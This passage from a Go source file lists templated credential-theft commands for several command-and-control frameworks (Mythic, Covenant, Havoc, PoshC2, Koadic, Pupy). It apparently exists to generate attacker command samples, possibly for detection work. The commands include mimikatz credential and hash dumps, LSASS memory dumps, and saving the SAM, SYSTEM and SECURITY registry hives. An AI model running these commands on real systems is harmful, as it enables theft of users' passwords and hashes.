			`{{|beacon> }}download C:\Windows\Temp\{{crhivef}}`),
		fam("cred/mythic-apollo-commands", c, "windows", Raw,
			`mimikatz sekurlsa::{{logonpasswords|ekeys|msv|wdigest}}`,
			`mimikatz "lsadump::{{sam|secrets|cache}}"`,
			`execute_assembly SharpKatz.exe --Command {{ekeys|logonpasswords|msv}}`,
			`powerpick Get-Process lsass | Out-Minidump -DumpFilePath C:\Windows\Temp`,
			`inline_assembly {{SafetyKatz|SharpDump|SharpSecDump}}.exe{{| -target={{host}}}}`,
			`run rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {{lsapid}} C:\Windows\Temp\{{dmp}} full`,
			`shell reg save HKLM\SAM C:\Windows\Temp\{{samout}}`,
			`powershell Invoke-Mimikatz -DumpCreds`),
		fam("cred/covenant-grunt-tasks", c, "windows", Raw,
			`Mimikatz /command:"{{crkcmd}}"`,
			`LogonPasswords`,
			`SamDump`,
			`LsaSecrets`,
			`LsaCache`,
			`Wdigest`,
			`SafetyKatz`,
			`SharpDump /processid:"{{lsapid}}"`,
			`(wizard) > Mimikatz /command:"privilege::debug {{crkcmd}}"`,
			`(wizard) > {{LogonPasswords|SamDump|LsaSecrets|LsaCache|SafetyKatz}}`,
			`{{crimplant}} > SharpDump`),
		fam("cred/havoc-bruteratel-dumps", c, "windows", Raw,
			`{{|[{{cragent}}] Demon » }}powerpick Invoke-Mimikatz -Command '"{{crkcmd}}"'`,
			`{{|[{{cragent}}] Demon » }}dotnet inline-execute {{crloot}}/{{SafetyKatz|BetterSafetyKatz|SharpDump}}.exe`,
			`{{|[{{cragent}}] Demon » }}noconsolation {{crloot}}/mimikatz.exe "privilege::debug" "{{crkcmd}}" exit`,
			`{{|[{{cragent}}] Demon » }}shell reg save HKLM\{{SAM|SYSTEM|SECURITY}} C:\Windows\Temp\{{samout}}`,
			`{{|[{{cragent}}] Demon » }}inline-execute {{crloot}}/nanodump.x64.o --write C:\Windows\Temp\{{dmp}}`,
			`{{|[{{cragent}}] Demon » }}dotnet inline-execute {{crloot}}/SharpKatz.exe --Command {{logonpasswords|ekeys|msv}}`,
			`samdump`,
			`mimikatz sekurlsa::{{logonpasswords|ekeys}}`,
			`sharpinline {{crloot}}/SharpKatz.exe --Command {{logonpasswords|ekeys}}`),
		fam("cred/poshc2-koadic-pupy", c, "windows", Raw,
			`{{|PS {{cragent}}> }}invoke-mimikatz{{| -command '"{{crkcmd}}"'}}`,
			`{{|PS {{cragent}}> }}get-hash`,
			`{{|PS {{cragent}}> }}sharpsecdump -target={{host}}`,
			`{{|PS {{cragent}}> }}run-exe SharpDump.Program SharpDump {{lsapid}}`,
			`{{|PS {{cragent}}> }}safetykatz`,
			`use implant/gather/hashdump_sam`,
			`use implant/inject/mimikatz_{{dynwrapx|dotnet2js|tashlib}}`,
			`(koadic: sta/js/mshta)# use implant/gather/hashdump_sam`,
			`set MIMICMD {{crkcmd}}`,
			`pupy> {{creddump|run creddump}}`,
			`pupy> run memory_exec -- mimikatz.exe "privilege::debug" "{{crkcmd}}" exit`),
	}
}
